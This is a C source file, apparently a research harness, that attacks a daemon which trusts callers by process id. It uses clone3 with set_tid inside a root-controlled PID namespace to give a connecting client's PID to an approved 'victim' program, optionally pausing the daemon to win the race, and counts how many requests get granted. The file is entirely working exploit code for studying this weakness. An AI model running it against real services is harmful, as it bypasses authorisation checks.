/*
 * Lets a process connect, ask and end, and gives its process id to an approved program, which is then all that can be
 * found under that number. Started by root in a process id namespace of its own, where root can choose the next number
 * (clone3, set_tid); everybody who takes part runs as the user.
 *
 *   reuse SOCKET REQUEST DAEMON VICTIM UID         the daemon sleeps meanwhile
 *   reuse SOCKET REQUEST DAEMON VICTIM UID COUNT   again and again beside a daemon that is awake
 */
#include "attack.h"
#include <grp.h>
#include <linux/sched.h>
#include <stdint.h>

static char **arguments;

static void become_user(void)
{
    unsigned user = (unsigned)atoi(arguments[5]);
    if (setgroups(0, NULL) != 0 || setresgid(user, user, user) != 0 || setresuid(user, user, user) != 0)
        fail("setresuid");
}

static pid_t fork_as(pid_t number)
{
    struct clone_args how = {
        .exit_signal = SIGCHLD, .set_tid = number ? (uint64_t)(uintptr_t)&number : 0, .set_tid_size = number ? 1 : 0};
    pid_t pid = (pid_t)syscall(SYS_clone3, &how, sizeof how);
    if (pid < 0)
        fail("clone3 with set_tid");
    return pid;
}

static int attempt(int directed)
{
    pid_t daemon = atoi(arguments[3]);
    if (directed)
        stop(daemon);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    pid_t first = fork_as(0);
    if (first == 0) {
        become_user();
        join(fd, arguments[1]);
        say(fd, arguments[2]);
        _exit(0);
    }
    waitpid(first, NULL, 0);
    pid_t second = fork_as(first);
    if (second == 0) {
        become_user();
        execl(arguments[4], arguments[4], NULL);
        fail("exec");
    }
    if (second != first)
        fail("another number");
    if (directed) {
        until_named(second, "waiting");
        go_on(daemon);
    }
    int *granted = shared();
    pid_t reader = fork_as(0);
    if (reader == 0) {
        become_user();
        *granted = show(fd);
        _exit(0);
    }
    waitpid(reader, NULL, 0);
    kill(second, SIGKILL);
    waitpid(second, NULL, 0);
    close(fd);
    int got = *granted;
    munmap(granted, sizeof *granted);
    return got;
}

int main(int argc, char **argv)
{
    arguments = argv;
    int count = argc > 6 ? atoi(argv[6]) : 1, granted = 0;
    for (int i = 0; i < count; i++)
        granted += attempt(argc == 6);
    printf("%d of %d granted\n", granted, count);
    return 0;
}
